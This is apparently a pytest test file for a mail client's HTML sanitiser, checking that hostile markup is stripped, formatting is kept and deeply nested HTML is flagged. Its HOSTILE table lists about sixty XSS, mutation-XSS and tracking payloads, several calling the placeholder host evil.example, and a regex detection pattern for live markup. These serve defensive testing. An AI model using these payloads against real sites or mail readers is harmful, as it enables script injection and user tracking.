"""Is what is left of hostile HTML harmless? And is what is left of honest HTML readable?"""

import re
from html.parser import HTMLParser

import pytest

from frontlinje.channels.mail.rules.clean_html import cleaned_html, framed_html, text_of_html
from frontlinje.channels.mail.rules.tangled_html import is_too_tangled, text_of_tangled

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script without end": "<script>alert(1)",
    "half a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "event": "<img src=x onerror=alert(1)>",
    "event with slash": "<img/src=x/onerror=alert(1)>",
    "event without quotes": "<b onmouseover=alert(1)>x</b>",
    "body event": "<body onload=alert(1)>",
    "details event": "<details open ontoggle=alert(1)>x</details>",
    "link to script": "<a href='javascript:alert(1)'>x</a>",
    "link to script in entities": "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "link to script with blanks": "<a href=' \tjava\nscript:alert(1)'>x</a>",
    "link to data": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "link to vbscript": "<a href='vbscript:x'>x</a>",
    "relative link": "<a href='/account/logout'>x</a>",
    "link without protocol": "<a href='//evil.example'>x</a>",
    "remote picture": "<img src='https://evil.example/pixel.gif'>",
    "picture without protocol": "<img src='//evil.example/pixel.gif'>",
    "picture set": "<img srcset='https://evil.example/a.gif 1x'>",
    "picture source": "<picture><source srcset='https://evil.example/a.gif'></picture>",
    "own picture": "<img src='/account/logout'>",
    "picture as SVG": "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "SVG": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "SVG with use": "<svg><use href='https://evil.example/x.svg#a'/></svg>",
    "SVG in style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "MathML": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "MathML link": "<math href='javascript:alert(1)'>x</math>",
    "frame": "<iframe src='https://evil.example'></iframe>",
    "frame document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data='https://evil.example/x.swf'></object>",
    "embed": "<embed src='https://evil.example/x.swf'>",
    "base": "<base href='https://evil.example/'>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "style sheet": "<link rel=stylesheet href='https://evil.example/x.css'>",
    "style element": "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "style with address": "<p style='background:url(https://evil.example/a.gif)'>x</p>",
    "style with escaped address": r"<p style='background-color:\75rl(https://evil.example)'>x</p>",
    "style with image set": "<p style=\"background-color:image-set('//evil.example/a' 1x)\">x</p>",
    "style list picture": "<ul style='list-style:url(https://evil.example/a.gif)'><li>x</ul>",
    "style cursor": "<p style='cursor:url(https://evil.example/a.cur)'>x</p>",
    "style over the page": "<div style='position:fixed;top:0;left:0;width:100%'>x</div>",
    "style expression": "<p style='width:expression(alert(1))'>x</p>",
    "background attribute": "<table background='https://evil.example/a.gif'><tr><td>x</table>",
    "form": "<form action='https://evil.example'><input name=password><button>x</button></form>",
    "button to elsewhere": "<button formaction='javascript:alert(1)'>x</button>",
    "template": "<template><script>alert(1)</script></template>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "comment": "<!-- <img src=x onerror=alert(1)> --!> <img src=x onerror=alert(1)>",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "textarea": "<textarea><script>alert(1)</script></textarea>",
    "xmp": "<xmp><script>alert(1)</script></xmp>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "audio and video": "<video src='https://evil.example/a' autoplay><audio src=//evil.example>",
    "track": "<video><track src='https://evil.example/a.vtt'></video>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "prefetch": "<link rel=dns-prefetch href='//evil.example'>",
    "named window": "<a name=parent href='https://example.net' target=_top>x</a>",
    "ping": "<a href='https://example.net' ping='https://evil.example'>x</a>",
    "id and class": "<p id=content class=fl-page>x</p>",
    "import of HTML": "<link rel=import href='https://evil.example'>",
    "unknown element": "<x-y onclick=alert(1)>x</x-y>",
    "NUL in a name": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "mixed up tables": "<table><a href='javascript:alert(1)'><td onclick=alert(1)>x",
}


class Ordered(HTMLParser):
    """Writes HTML down with the attributes of each tag in alphabetical order."""

    def __init__(self) -> None:
        super().__init__()
        self.pieces: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.pieces += [*sorted(f"{name}={value}" for name, value in attrs), f"<{tag}"]

    def handle_endtag(self, tag: str) -> None:
        self.pieces.append(f">{tag}")

    def handle_data(self, data: str) -> None:
        self.pieces.append(data)


def in_order(html: str) -> list[str]:
    parser = Ordered()
    parser.feed(html)
    parser.close()
    return parser.pieces


LIVE = re.compile(
    r"<(?:script|style|iframe|object|embed|svg|math|form|input|button|base|meta|link|video|audio)"
    r"|\son[a-z]+\s*=|javascript:|vbscript:|srcset|background=|url\(|expression|position"
    r"|<img[^>]*src=\"(?!cid:|data:image/(?:png|jpeg|gif|webp);base64)"
    r"|href=\"(?!https?:|mailto:|tel:)|\sping=|\sid=|\sclass=|\sname=|target=\"(?!_blank)",
    re.IGNORECASE,
)


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_hostile_is_left(name: str) -> None:
    for clean in (cleaned_html(HOSTILE[name]), framed_html(HOSTILE[name], {})):
        assert not LIVE.search(clean)


@pytest.mark.parametrize("name", HOSTILE)
def test_cleaning_twice_changes_nothing(name: str) -> None:
    once = cleaned_html(HOSTILE[name])
    assert in_order(cleaned_html(once)) == in_order(once)


def test_links_open_elsewhere_and_tell_nobody_where_from() -> None:
    assert in_order(cleaned_html("<a href='https://example.net/a?b=1&amp;c=2'>x</a>")) == [
        *("href=https://example.net/a?b=1&c=2", "rel=noopener noreferrer nofollow"),
        *("target=_blank", "<a", "x", ">a"),
    ]


def test_ordinary_looks_are_kept() -> None:
    honest = (
        '<table width="600"><tbody><tr><td bgcolor="#eee" style="color:#333;padding:4px">'
        "<h1>Hei</h1><p><b>fet</b> og <i>skrå</i></p><ul><li>en</li></ul></td></tr></tbody></table>"
    )
    assert cleaned_html(honest) == honest


def test_pictures_of_the_mail_are_shown_and_no_others() -> None:
    stored = cleaned_html("<img src='cid:a'><img src='cid:b'><img src='https://evil.example/c'>")
    assert stored == '<img src="cid:a"><img src="cid:b"><img>'
    picture = "data:image/png;base64,AAAA"
    assert framed_html(stored, {"a": picture}) == f'<img src="{picture}"><img><img>'


def test_text_is_read_off_html() -> None:
    markup = "<p>Hei &amp; hå</p><div>en<br>to</div><table><tr><td>a</td><td>b</td></tr></table>"
    assert text_of_html(markup) == "Hei & hå\n\nen\nto\n\na b"


def test_escaped_markup_stays_escaped() -> None:
    assert text_of_html("<p>&amp;lt;script&amp;gt;</p>") == "&lt;script&gt;"


def test_honest_nesting_is_not_taken_for_an_attack() -> None:
    newsletter = "<table><tr><td><div><b>" * 40 + "hei" + "</b></div></td></tr></table>" * 40
    assert not is_too_tangled(newsletter)
    assert not is_too_tangled("<p>hei<br><li><b>x</b>" * 20_000)


def test_attacks_by_nesting_are_noticed() -> None:
    assert is_too_tangled("<div>" * 1000)
    assert is_too_tangled("".join(f"<font color=c{i}>" for i in range(200)) + "<p>x</p>" * 5000)


def test_tangled_html_still_gives_its_words() -> None:
    tangled = "<style>p{}</style><div>Hei<script>alert(1)</script><b>du" + "<i>" * 500
    assert text_of_tangled(tangled) == "Hei du"
